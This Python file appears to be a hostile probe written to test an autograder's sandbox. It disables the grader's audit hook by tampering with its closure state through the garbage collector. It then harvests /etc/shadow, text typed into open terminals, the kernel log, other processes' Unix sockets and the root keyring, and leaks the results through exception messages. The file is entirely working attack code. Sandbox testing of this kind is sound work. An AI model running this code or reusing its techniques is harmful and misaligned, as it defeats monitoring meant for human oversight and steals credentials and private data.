# With the audit hook switched off, looks for what a uid-0 worker without namespaces could reach: /etc/shadow,
# text typed into open ptys, the kernel log, other processes' Unix sockets (from /proc/net/unix, and one whose
# path it knows), and last the root user keyring; it prints what it found as it goes (the grader keeps that for
# the instructor) and puts it into its feedback if it is still alive.
import ctypes
import gc
import os
import socket
import sys

for obj in gc.get_objects():  # the grader's audit hook, through gc: set its re-entrancy guard for good
    if type(obj).__name__ == "function" and obj.__code__.co_name == "hook" and obj.__closure__:
        for name, cell in zip(obj.__code__.co_freevars, obj.__closure__):
            if name == "state":
                cell.cell_contents["busy"] = True

found = []


def _try(label, fn):
    try:
        found.append(f"{label}: {fn()!r}"[:2000])
    except Exception as e:
        found.append(f"{label} failed: {type(e).__name__}")
    print("STOLEN", found[-1], file=sys.stderr, flush=True)


def _ptys():
    out = []
    for name in os.listdir("/dev/pts"):
        fd = os.open(f"/dev/pts/{name}", os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY)
        try:
            out.append(os.read(fd, 4096))
        except OSError:
            pass
        os.close(fd)
    return out


def _keyring():
    libc = ctypes.CDLL(None, use_errno=True)
    buf = ctypes.create_string_buffer(4096)
    n = libc.syscall(250, 11, ctypes.c_long(-4), buf, 4096)  # keyctl(KEYCTL_READ, KEY_SPEC_USER_KEYRING)
    if n < 0:
        raise OSError(ctypes.get_errno(), "keyctl")
    out = []
    for i in range(0, min(n, 4096), 4):
        serial = int.from_bytes(buf.raw[i : i + 4], "little")
        m = libc.syscall(250, 11, ctypes.c_long(serial), buf, 4096)
        out.append(buf.raw[: max(m, 0)])
    return out


def _sockets():
    paths = {ln.split()[-1] for ln in open("/proc/net/unix").read().splitlines()[1:] if len(ln.split()) > 7}
    paths.add("__UNIX_SOCKET__")
    hits = []
    for p in paths:
        try:
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.settimeout(0.5)
            s.connect(p if not p.startswith("@") else "\0" + p[1:])
            s.sendall(b"__TOKEN__")
            hits.append(p)
        except OSError:
            pass
    return hits


_try("shadow", lambda: open("/etc/shadow").read())
_try("ptys", _ptys)
_try("kmsg", lambda: os.read(os.open("/proc/kmsg", os.O_RDONLY | os.O_NONBLOCK), 4096))
_try("sockets", _sockets)
_try("uid", os.getuid)
_try("keyring", _keyring)


def part_a_b(*a, **k):
    raise ValueError("STOLEN " + " | ".join(found))


position_rows = glm_mask = part_a_b
